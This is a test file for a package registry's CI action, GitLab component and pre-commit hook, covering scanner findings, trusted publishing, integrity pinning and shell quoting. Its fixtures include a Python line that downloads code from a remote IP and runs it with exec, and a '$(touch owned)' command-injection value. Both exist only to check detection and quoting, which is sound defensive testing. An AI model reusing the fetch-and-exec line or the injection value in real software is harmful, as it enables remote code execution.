// A promise: the action, the component and the hook run as documented.
import assert from 'node:assert/strict'
import { execFile } from 'node:child_process'
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { after, before, describe, it } from 'node:test'
import { promisify } from 'node:util'
import { parse } from 'yaml'
import { ensureBuilt, testEnvironment } from '../../../scripts/set-up.mjs'
import { attestationVerifier } from '../../../server/src/packs/attestations/verify.ts'
import { ciIssuers } from '../../../server/src/packs/trusted-publishing/issuers.ts'
import { FakeOidcIssuer, githubClaims } from '../../../server/test/fakes/oidc-issuer.ts'
import { FakeSigstore } from '../../../server/test/fakes/sigstore.ts'
import { type TestPublisher, testPublisher } from '../../../server/test/publishing.ts'
import { withJobs } from '../../../server/test/with-jobs.ts'
import { World } from '../../../server/test/world.ts'
import { folderWith, packOf } from '../run.test-support.ts'
import { identityServer, type Job, type JobResult, runAction, runComponent } from './runner.test-support.ts'

const runProgram = promisify(execFile)
const root = join(import.meta.dirname, '../../..')
const read = (path: string) => readFile(join(root, path), 'utf8')

const sigstore = new FakeSigstore(new Date('2026-01-01T00:00:00Z'))
let world: World
let ci: FakeOidcIssuer
let acme: TestPublisher
/** The temporary folder of the runner, with the cache of npm. */
let home: string
let registryUrl: string

before(async () => {
  ci = await FakeOidcIssuer.at('https://ci.test', () => world.now())
  const issuers = ciIssuers([{ kind: 'github', url: ci.url }], () => world.now(), { fetch: ci.fetch })
  const verifier = attestationVerifier(async () => sigstore.trustedRoot())
  world = await World.open({ ciIssuers: issuers, attestationVerifier: verifier })
  acme = await testPublisher(world, { id: 'acme' })
  registryUrl = await world.listen()
  home = await mkdtemp(join(tmpdir(), 'nodeyard-ci-'))
  await ensureBuilt(['cli'])
})
after(async () => {
  await world.close()
  await rm(home, { recursive: true, force: true })
})

const jobIn = (folder: string, env: Record<string, string> = {}): Job => ({
  folder,
  env: {
    ...testEnvironment(),
    HOME: home,
    RUNNER_TEMP: home,
    NODEYARD_KEYCHAIN: 'off',
    npm_config_cache: join(home, 'npm'),
    npm_config_registry: registryUrl,
    npm_config_update_notifier: 'false',
    LANG: 'C',
    ...env,
  },
})

async function trust(nodeId: string): Promise<void> {
  await world.given.trustedPublisher({
    publisher_id: acme.id,
    node_id: nodeId,
    created_by: acme.ownerId,
    issuer: ci.url,
  })
}

const identity = () => identityServer((aud) => ci.mint({ aud, ...githubClaims() }))

const risky = 'def run(x):\n    eval(x)\n'

describe('the GitHub action', () => {
  const act = async (given: Record<string, string>, job: Job): Promise<JobResult> =>
    runAction(await read('ci/github/action.yml'), { registry: registryUrl, ...given }, job)

  it('puts findings on the lines of a pull request', async () => {
    const folder = await folderWith({ ...packOf('checked', 'acme'), 'risky.py': risky })
    const { code, output } = await act({}, jobIn(folder))
    assert.equal(code, 0, output)
    assert.match(output, /^::warning file=risky\.py,line=2,title=dynamic-code \(medium\)::/m)
  })

  it('fails for a version that would be held, and writes SARIF first', async () => {
    const danger = 'import requests\nexec(requests.get("http://203.0.113.9").text)\n'
    const folder = await folderWith({ ...packOf('held', 'acme'), 'bad.py': danger })
    const { code, output } = await act({ sarif: 'out.sarif' }, jobIn(folder))
    assert.equal(code, 2, output)
    assert.match(output, /^::error file=bad\.py,line=2/m)
    const sarif = JSON.parse(await readFile(join(folder, 'out.sarif'), 'utf8'))
    assert.equal(sarif.runs[0].results[0].locations[0].physicalLocation.artifactLocation.uri, 'bad.py')
  })

  it('publishes the first release of a pack without a stored secret', async () => {
    await trust('first-release')
    const variables = await identity()
    const folder = await folderWith(packOf('first-release', 'acme'))
    const { code, output } = await withJobs(world, act({ command: 'publish' }, jobIn(folder, variables)))
    assert.equal(code, 0, output)
    assert.match(output, /^::add-mask::/m)
    assert.match(output, /first-release 1\.0\.0 is live\./)
  })

  it('publishes with a Sigstore bundle about the archive that it wrote', async () => {
    await trust('signed')
    const folder = await folderWith(packOf('signed', 'acme'))
    const out = await folderWith({})
    const packed = await act({ command: 'pack', archive: join(out, 'signed.zip') }, jobIn(folder))
    const digest = /SHA-256 ([0-9a-f]{64})\./.exec(packed.output)?.[1]
    assert.ok(digest, packed.output)
    const bundle = join(out, 'bundle.json')
    await writeFile(bundle, JSON.stringify(sigstore.attest({ digest, at: world.now() })))
    const job = jobIn(folder, await identity())
    const { code, output } = await withJobs(world, act({ command: 'publish', bundle }, job))
    assert.equal(code, 0, output)
    assert.match(output, /^Uploaded the attestation, signed by /m)
  })

  it('explains a build that is not trusted', async () => {
    const folder = await folderWith(packOf('untrusted', 'acme'))
    const { code, output } = await act({ command: 'publish' }, jobIn(folder, await identity()))
    assert.equal(code, 1)
    assert.match(output, /The registry refused \(\d+\): /)
  })

  it('runs only a program with the stated integrity', async () => {
    const folder = await folderWith(packOf('pinned', 'acme'))
    const { integrity } = await (await fetch(`${registryUrl}/nodeyard.json`)).json()
    assert.equal((await act({ integrity }, jobIn(folder))).code, 0)
    const refused = await act({ integrity: 'sha512-AAAA' }, jobIn(folder))
    assert.equal(refused.code, 1)
    assert.ok(refused.output.includes(`has the integrity ${integrity}`), refused.output)
  })

  it('passes no input to the shell as code', async () => {
    const folder = await folderWith(packOf('quoted', 'acme'))
    const { output } = await act({ path: '$(touch owned)' }, jobIn(folder))
    assert.match(output, /file or folder not found/)
    await assert.rejects(readFile(join(folder, 'owned')))
  })
})

describe('the GitLab component', () => {
  const run = async (name: string, folder: string, given: Record<string, string> = {}) =>
    runComponent(
      await read('templates/nodeyard.yml'),
      name,
      { registry: registryUrl, ...given },
      {
        ...jobIn(folder),
        mint: (aud) => ci.mint({ aud, ...githubClaims() }),
      },
    )

  it('reports code quality', async () => {
    const folder = await folderWith({ ...packOf('quality', 'acme'), 'risky.py': risky })
    const { code, output, reports } = await run('nodeyard-check', folder)
    assert.equal(code, 0, output)
    const [entry] = JSON.parse(await readFile(join(folder, reports ?? ''), 'utf8'))
    assert.deepEqual([entry.location, entry.severity], [{ path: 'risky.py', lines: { begin: 2 } }, 'major'])
  })

  it('runs only a program with the stated integrity', async () => {
    const folder = await folderWith(packOf('pinned', 'acme'))
    const { code, output } = await run('nodeyard-check', folder, { integrity: 'sha512-AAAA' })
    assert.equal(code, 1)
    assert.match(output, /The program has the integrity sha512-/)
  })

  it('publishes tags without a stored secret', async () => {
    await trust('by-tag')
    const { code, output } = await withJobs(
      world,
      run('nodeyard-publish', await folderWith(packOf('by-tag', 'acme'))),
    )
    assert.equal(code, 0, output)
    assert.match(output, /by-tag 1\.0\.0 is live\./)
  })
})

describe('the pre-commit hook', () => {
  it('runs the check on the whole pack', async () => {
    const [hook] = parse(await read('.pre-commit-hooks.yaml'))
    assert.deepEqual([hook.pass_filenames, hook.language], [false, 'system'])
    const folder = await folderWith(packOf('hooked', 'acme'))
    const { env } = jobIn(folder)
    const { stdout } = await runProgram('bash', ['-c', `${hook.entry} ${registryUrl}`], { cwd: folder, env })
    assert.match(stdout, /would list this version/)
  })
})
